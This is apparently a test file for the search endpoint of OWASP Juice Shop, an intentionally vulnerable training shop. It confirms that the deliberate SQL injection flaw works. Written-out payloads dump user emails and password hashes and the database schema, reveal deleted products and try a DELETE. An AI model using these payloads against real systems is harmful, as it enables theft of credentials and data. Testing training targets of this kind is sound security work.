import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { readJson, type Json } from '../../test-support/http-helpers.js'
import { startTestShop, type TestShop } from '../../test-support/test-shop.js'

let t: TestShop
beforeAll(async () => {
  t = await startTestShop()
})
afterAll(async () => {
  await t.close()
})

const search = (q: string) => t.request(`/rest/products/search?q=${encodeURIComponent(q)}`)

async function found(q: string): Promise<Json[]> {
  const response = await search(q)
  expect(response.status).toBe(200)
  const body = await readJson<{ status: string; data: Json[] }>(response)
  expect(body.status).toBe('success')
  return body.data
}

const basketItemsDdl =
  'CREATE TABLE `BasketItems` (`ProductId` INTEGER REFERENCES `Products` (`id`) ON DELETE CASCADE ON UPDATE CASCADE, `BasketId` INTEGER REFERENCES `Baskets` (`id`) ON DELETE CASCADE ON UPDATE CASCADE, `id` INTEGER PRIMARY KEY AUTOINCREMENT, `quantity` INTEGER, `createdAt` DATETIME NOT NULL, `updatedAt` DATETIME NOT NULL, UNIQUE (`ProductId`, `BasketId`))'

describe('GET /rest/products/search', () => {
  it('finds products by name or description, ordered by name, as raw rows', async () => {
    expect(await found('nomatcheswhatsoever')).toEqual([])
    const hits = await found('o-saft')
    expect(hits).toHaveLength(1)
    expect(Object.keys(hits[0] ?? {})).toEqual([
      'id',
      'name',
      'description',
      'price',
      'deluxePrice',
      'image',
      'createdAt',
      'updatedAt',
      'deletedAt',
    ])
    const juices = (await found('juice')).map((product) => String(product.name))
    expect(juices).toEqual([...juices].sort())
  })

  it('answers every live product for an empty, missing or "undefined" text', async () => {
    const all = await readJson<{ data: Json[] }>(await t.request('/api/Products'))
    expect(await found('')).toHaveLength(all.data.length)
    expect(await found('undefined')).toHaveLength(all.data.length)
    const missing = await readJson<{ data: Json[] }>(await t.request('/rest/products/search'))
    expect(missing.data).toHaveLength(all.data.length)
  })

  it('shows SQL errors with the raw SQLite message on the error page', async () => {
    const cases: [string, string][] = [
      ["';", 'SQLITE_ERROR: near &quot;;&quot;: syntax error'],
      ["' union select id,email,password from users--", 'SQLITE_ERROR: near &quot;union&quot;: syntax error'],
      [
        "') union select id,email,password from users--",
        'SQLITE_ERROR: near &quot;union&quot;: syntax error',
      ],
      [
        "')) union select * from users--",
        'SQLITE_ERROR: SELECTs to the left and right of UNION do not have the same number of result columns',
      ],
    ]
    for (const [q, message] of cases) {
      const response = await search(q)
      expect(response.status).toBe(500)
      const page = await response.text()
      expect(page).toContain('<h1>OWASP Juice Shop (Express')
      expect(page).toContain(message)
    }
  })

  it('answers the rows of a nine-column UNION as they come', async () => {
    const rows = await found("')) union select '1','2','3','4','5','6','7','8','9' from users--")
    expect(rows).toContainEqual({
      id: '1',
      name: '2',
      description: '3',
      price: '4',
      deluxePrice: '5',
      image: '6',
      createdAt: '7',
      updatedAt: '8',
      deletedAt: '9',
    })
  })

  it('leaks user credentials through a UNION over Users', async () => {
    const rows = await found("')) union select id,'2','3',email,password,'6','7','8','9' from users--")
    const admin = rows.find((row) => row.id === 1 && row.price === 'admin@juice-sh.op')
    expect(admin?.deluxePrice).toBe('0192023a7bbd73250516f069df18b500')
    const jim = rows.find((row) => row.id === 2)
    expect(jim).toMatchObject({ price: 'jim@juice-sh.op', deluxePrice: 'e541ca7ecf72b8d1286474fc613e5e45' })
  })

  it('leaks the schema through a UNION over sqlite_master', async () => {
    const rows = await found("')) union select sql,'2','3','4','5','6','7','8','9' from sqlite_master--")
    const ids = rows.map((row) => row.id)
    expect(ids).toContain(basketItemsDdl)
    expect(ids).toContain('CREATE TABLE sqlite_sequence(name,seq)')
  })

  it('reveals soft-deleted products when the rest of the clause is commented out', async () => {
    expect(await found('seasonal special offer')).toEqual([])
    expect(await found("seasonal special offer'))--")).toEqual([])
    const christmas = await found("Christmas Super-Surprise-Box (2014 Edition)'))--")
    expect(christmas.map((row) => row.id)).toEqual([10])
    const rippertuer = await found("Rippertuer Special Juice'))--")
    expect(rippertuer.map((row) => row.id)).toEqual([11])
  })

  it('never runs stacked statements', async () => {
    const rows = await found("')); DELETE FROM Products; --")
    expect(rows.length).toBeGreaterThan(0)
    const all = await readJson<{ data: Json[] }>(await t.request('/api/Products'))
    expect(all.data.length).toBeGreaterThan(40)
  })
})

describe('GET /rest/products/search with hostile input', () => {
  it('cuts the text to 200 characters', async () => {
    const padded = `apple${' '.repeat(300)}'))--`
    // cut before the injection, so it is an ordinary (unmatched) search and no syntax error
    expect(await found(padded)).toEqual([])
    const response = await search('x'.repeat(8000))
    expect(response.status).toBe(200)
  })

  it('refuses a text given twice with a clear answer', async () => {
    const response = await t.request('/rest/products/search?q=a&q=b')
    expect(response.status).toBe(400)
    expect(await readJson(response)).toEqual({
      status: 'error',
      message: 'Search text q must be given at most once.',
    })
  })

  it('survives odd characters and keeps answering', async () => {
    for (const q of ['%', '_', '\\', '\u0000', "'", '"', '😀', "'))/*"]) {
      expect([200, 500]).toContain((await search(q)).status)
    }
    expect((await t.request('/rest/admin/application-version')).status).toBe(200)
  })
})

describe('a plain search kept until the database changes', () => {
  it('answers a product written between two equal searches', async () => {
    const token = await t.login('admin@juice-sh.op', 'admin123')
    expect(await found('kept-until-changed')).toEqual([])
    const created = await t.request('/api/Products', {
      method: 'POST',
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
      body: JSON.stringify({ name: 'Kept-until-changed Juice', description: 'fresh', price: 1 }),
    })
    expect(created.status).toBe(201)
    expect((await found('kept-until-changed')).map((product) => product.name)).toEqual([
      'Kept-until-changed Juice',
    ])
  })

  it('is still judged on every request, against the users stored at that time', async () => {
    const fresh = await startTestShop()
    try {
      const dump = "')) UNION SELECT id,email,password,4,5,6,7,8,9 FROM Users--"
      const searchFresh = (q: string) => fresh.request(`/rest/products/search?q=${encodeURIComponent(q)}`)
      await searchFresh('')
      await searchFresh('')
      expect((await fresh.challenge('unionSqlInjectionChallenge')).solved).toBe(false)
      // A user registered after the detector first read the users must be in the dump too.
      const registered = await fresh.request('/api/Users', {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({
          email: 'late@juice-sh.op',
          password: 'late-comer',
          passwordRepeat: 'late-comer',
        }),
      })
      expect(registered.status).toBe(201)
      const partial =
        "')) UNION SELECT id,email,password,4,5,6,7,8,9 FROM Users WHERE email <> 'late@juice-sh.op'--"
      expect((await searchFresh(partial)).status).toBe(200)
      expect((await fresh.challenge('unionSqlInjectionChallenge')).solved).toBe(false)
      expect((await searchFresh(dump)).status).toBe(200)
      expect((await fresh.challenge('unionSqlInjectionChallenge')).solved).toBe(true)
    } finally {
      await fresh.close()
    }
  })
})
